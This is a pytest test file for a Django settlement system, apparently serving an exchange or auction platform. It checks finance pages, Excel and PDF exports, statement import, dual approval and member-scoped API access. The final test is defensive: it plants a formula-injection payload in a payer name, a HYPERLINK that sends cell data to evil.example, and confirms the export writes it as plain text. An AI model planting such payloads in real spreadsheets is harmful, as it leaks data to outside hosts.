"""Finance pages, Excel exports, PDFs (checked with pdftotext) and the member API."""

from __future__ import annotations

import io
import shutil
import subprocess
from decimal import Decimal as D

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from exchange.settlement import services
from exchange.settlement.models import PaymentBatch, StatementLine
from tests.factories import UserFactory
from tests.settlement import factories as f

pytestmark = pytest.mark.django_db


def _pdf_text(content: bytes) -> str:
    if not shutil.which("pdftotext"):
        pytest.skip("poppler-utils (pdftotext) not installed")
    return subprocess.run(["pdftotext", "-", "-"], input=content, capture_output=True, check=True).stdout.decode()


@pytest.fixture
def data():
    finance = f.finance()
    buyer = UserFactory(name="陈明")
    paid = f.instruction(member=buyer, amount=D("50000.00"), project_id=77)
    other = f.instruction(amount=D("8000.00"), project_id=77)
    f.import_rows(
        [f.row(amount="50000.00", virtual_account=paid.virtual_account), f.row(amount="7000.00", payer="王建国")],
        actor=finance,
        encoding="gbk",
    )
    return {"finance": finance, "buyer": buyer, "paid": paid, "other": other}


def test_finance_pages_render_and_export_to_excel(client, data):
    client.force_login(data["finance"])
    pages = [
        "",
        "deposits/",
        "refunds/",
        "exceptions/",
        "import/",
        "batches/",
        "cash/",
        "trial-balance/",
        "postings/new/",
    ]
    for page in pages:
        assert client.get(f"/settlement/finance/{page}").status_code == 200, page
    response = client.get("/settlement/finance/deposits/?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "项目编号" and rows[1][0] == "SXCQ-2026-0077" and D(str(rows[1][3])) == D("50000")
    exceptions = load_workbook(io.BytesIO(client.get("/settlement/finance/exceptions/?format=xlsx").content)).active
    assert [r[1] for r in exceptions.iter_rows(values_only=True)][1:] == ["王建国"]
    tb = client.get("/settlement/finance/trial-balance/?verify=1").content.decode()
    assert "借贷平衡" in tb and "账务核对通过" in tb


def test_upload_page_imports_and_shows_line_errors(client, data):
    client.force_login(data["finance"])
    bad = f.statement_bytes([f.row(amount="1.001")], encoding="gbk")
    response = client.post(
        "/settlement/finance/import/",
        {"profile": f.generic_profile().pk, "file": SimpleUploadedFile("bad.csv", bad)},
    )
    assert response.status_code == 200 and "第 2 行" in response.content.decode()
    good = f.statement_bytes([f.row(amount="12.00", payer="李四")], encoding="gbk")
    response = client.post(
        "/settlement/finance/import/",
        {"profile": f.generic_profile().pk, "file": SimpleUploadedFile("good.csv", good)},
    )
    assert "李四" in client.get(response.url).content.decode()  # the preview; imported on confirmation
    response = client.post(response.url, {"action": "confirm"}, follow=True)
    assert "异常 1 笔" in response.content.decode()


def test_exception_resolved_by_hand_through_the_page(client, data):
    client.force_login(data["finance"])
    line = StatementLine.objects.get(payer_name="王建国")
    page = client.get(f"/settlement/finance/exceptions/{line.pk}/").content.decode()
    assert "退回付款人" in page
    client.post(f"/settlement/finance/exceptions/{line.pk}/", {"action": "return", "note": "非本平台款项"})
    line.refresh_from_db()
    assert line.status == "returned" and line.resolution_note == "非本平台款项"


def test_supervisor_sees_but_cannot_act(client, data):
    supervisor = UserFactory(role="supervisor")
    client.force_login(supervisor)
    line = StatementLine.objects.get(payer_name="王建国")
    assert client.get(f"/settlement/finance/exceptions/{line.pk}/").status_code == 200
    assert client.post(f"/settlement/finance/exceptions/{line.pk}/", {"action": "return"}).status_code == 403
    line.refresh_from_db()
    assert line.status == "exception"


def test_batch_page_enforces_four_eyes(client, data):
    services.deposit_refund(instruction_id=data["paid"].pk)
    preparer, approver = data["finance"], f.finance()
    batch = services.payment_batch_prepare(actor=preparer)
    client.force_login(preparer)
    page = client.get(f"/settlement/finance/batches/{batch.pk}/").content.decode()
    assert "双人复核" in page
    client.post(f"/settlement/finance/batches/{batch.pk}/", {"action": "approve"})
    batch.refresh_from_db()
    assert batch.status == "draft"
    client.force_login(approver)
    client.post(f"/settlement/finance/batches/{batch.pk}/", {"action": "approve"})
    batch.refresh_from_db()
    assert batch.status == PaymentBatch.Status.APPROVED and batch.approved_by == approver
    response = client.post(f"/settlement/finance/batches/{batch.pk}/", {"action": "export"})
    assert "业务参考号" in response.content.decode("gb18030")


def test_member_statement_pdf_in_chinese_shows_only_own_data(client, data):
    client.force_login(data["buyer"])
    page = client.get("/settlement/me/").content.decode()
    assert data["paid"].virtual_account in page and data["other"].virtual_account not in page
    text = _pdf_text(client.get("/settlement/me/statement.pdf").content)
    assert "会员资金对账单" in text and "陈明" in text and "50,000.00" in text
    assert data["other"].virtual_account not in text


def test_project_settlement_sheet_pdf(client, data):
    client.force_login(data["finance"])
    response = client.get("/settlement/finance/projects/77/sheet.pdf")
    assert response["Content-Type"] == "application/pdf"
    text = _pdf_text(response.content)
    assert "项目结算单" in text and "SXCQ-2026-0077" in text and "保证金到账" in text
    assert client.get("/settlement/finance/projects/999/sheet.pdf").status_code == 404


def test_api_lists_only_the_callers_deposits(client, data):
    client.force_login(data["buyer"])
    body = client.get("/api/v1/settlement/deposits").json()
    assert [d["id"] for d in body] == [data["paid"].pk] and body[0]["status"] == "confirmed"
    assert client.get(f"/api/v1/settlement/deposits/{data['other'].pk}").status_code == 404
    statement = client.get("/api/v1/settlement/statement").json()
    assert statement["accounts"][0]["frozen"] == "50000.00" and statement["entries"][0]["amount"] == "50000.00"
    quote = client.get("/api/v1/settlement/fees/quote?amount=80000000&side=seller").json()
    assert quote["total"] == "162000.00" and len(quote["bands"]) == 3


def test_finance_excel_exports_keep_a_hostile_payer_as_text(client, data):
    # given a bank line whose payer name and remark are formulas (a member controls both)
    payload = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    f.import_rows([f.row(amount="9.00", payer=payload, remark="@SUM(1+1)")], actor=data["finance"], encoding="gbk")
    client.force_login(data["finance"])
    # when finance exports the exceptions queue
    sheet = load_workbook(io.BytesIO(client.get("/settlement/finance/exceptions/?format=xlsx").content)).active
    # then the cells are text, exactly as received, and never formulas
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in (payload, "@SUM(1+1)")]
    assert {c.value for c in cells} >= {payload}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
